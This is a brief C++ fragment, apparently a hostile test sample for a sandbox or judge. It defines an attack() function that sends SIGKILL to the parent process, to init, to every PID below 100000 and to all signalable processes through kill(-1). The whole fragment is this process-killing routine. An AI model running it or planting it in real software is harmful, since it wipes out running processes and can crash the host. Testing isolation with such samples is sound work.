#include <unistd.h>

#include <csignal>

static void attack() {
  kill(getppid(), SIGKILL);
  kill(1, SIGKILL);
  for (int process = 2; process < 100000; ++process) {
    if (process != getpid()) kill(process, SIGKILL);
  }
  kill(-1, SIGKILL);
}
